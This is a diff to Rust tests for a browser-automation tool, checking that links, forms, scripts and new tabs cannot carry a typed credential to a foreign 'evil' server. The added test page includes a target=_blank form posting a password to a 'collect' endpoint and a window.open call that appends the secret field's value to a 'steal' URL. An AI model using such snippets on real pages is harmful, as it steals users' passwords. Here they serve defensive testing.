@@ -182,6 +182,8 @@ fn leaving_page(app: &Server, evil: &Server) {
 <form method="post" action="{collect}"><label>Password <input name="password" type="password"></label><button>Sign in</button></form>
 <button onclick="location.href='{steal}?via=script'">Go</button>
 <a href="{steal}?via=tab" target="_blank">Open in a new tab</a>
+<form method="post" action="{collect}?via=tab-form" target="_blank"><label>Secret <input name="secret" type="password"></label><button>Sign in elsewhere</button></form>
+<button onclick="window.open('{steal}?via=open&pw=' + encodeURIComponent(document.querySelector('[name=secret]').value))">Share</button>
 <script>setTimeout(() => document.body.insertAdjacentHTML('beforeend', '<p>Later</p>'), 1500)</script>"#
         ),
     );
@@ -204,10 +206,20 @@ fn a_link_a_form_post_and_a_script_cannot_take_the_page_off_the_app() {
             ]),
             json!([{"id": "a1", "type": "click", "target": {"selector": "role=button[name=\"Go\"]"}, "expect": {"url": "**/steal*"}}]),
         ];
-        // A new tab: checked when the step follows it; its first request is not held back (a
-        // known limit, in SECURITY.md).
-        let tab = json!([{"id": "a1", "type": "click", "target": {"selector": "role=link[name=\"Open in a new tab\"]"}, "expect": {"visible": "text=\"Got it\""}}]);
-        for actions in tries {
+        // New tabs (issue 33: a `target=_blank` form or `window.open` carried a typed
+        // credential out): held by the browser's session before their first request.
+        let tabs = [
+            json!([{"id": "a1", "type": "click", "target": {"selector": "role=link[name=\"Open in a new tab\"]"}, "expect": {"visible": "text=\"Got it\""}}]),
+            json!([
+                {"id": "a1", "type": "fill", "target": {"selector": "label=\"Secret\""}, "value_ref": "ACME_ADMIN_PASSWORD"},
+                {"id": "a2", "type": "click", "target": {"selector": "role=button[name=\"Sign in elsewhere\"]"}, "expect": {"visible": "text=\"Got it\""}}
+            ]),
+            json!([
+                {"id": "a1", "type": "fill", "target": {"selector": "label=\"Secret\""}, "value_ref": "ACME_ADMIN_PASSWORD"},
+                {"id": "a2", "type": "click", "target": {"selector": "role=button[name=\"Share\"]"}, "expect": {"visible": "text=\"Got it\""}}
+            ]),
+        ];
+        for actions in tries.into_iter().chain(tabs) {
             let plan = plan_from_str(
                 &json!({"plan_version": "0.1", "scenario_id": "s", "task": "t",
                     "start_url": "/leave.html", "generated_by": "x", "actions": actions})
@@ -225,20 +237,7 @@ fn a_link_a_form_post_and_a_script_cannot_take_the_page_off_the_app() {
             0,
             "the foreign origin received a request"
         );
-        let plan = plan_from_str(
-            &json!({"plan_version": "0.1", "scenario_id": "s", "task": "t",
-                "start_url": "/leave.html", "generated_by": "x", "actions": tab})
-            .to_string(),
-        );
-        let x = run.exec(browser(), &plan).await;
-        let f = x.failure.expect("the new tab is outside the app");
-        assert_eq!(f.class, FailureClass::NavigationFailed, "{}", f.message);
-        assert!(
-            f.message.contains("(or a tab it opened) reached"),
-            "{}",
-            f.message
-        );
-        // Checked as the tab's document commits, even by a step that never follows it.
+        // Stopped before it was sent, even by a step that never follows the tab.
         let plan = plan_from_str(
             &json!({"plan_version": "0.1", "scenario_id": "s", "task": "t",
                 "start_url": "/leave.html", "generated_by": "x", "actions": [
@@ -252,15 +251,17 @@ fn a_link_a_form_post_and_a_script_cannot_take_the_page_off_the_app() {
         let f = x.failure.expect("the new tab is outside the app");
         assert_eq!(f.class, FailureClass::NavigationFailed, "{}", f.message);
         assert!(
-            f.message.contains("(or a tab it opened) reached"),
+            f.message.contains("(or a tab it opened) tried to load"),
             "{}",
             f.message
         );
-        assert_eq!(
-            f.action_id.as_deref(),
-            Some("a2"),
-            "found before any step follows the tab"
+        // At the click that opened it, or the step after it when the click ended first.
+        assert!(
+            matches!(f.action_id.as_deref(), Some("a1" | "a2")),
+            "found before any step follows the tab: {:?}",
+            f.action_id
         );
+        assert_eq!(evil.total_hits(), 0, "the new tab's request was sent");
     });
 }
 
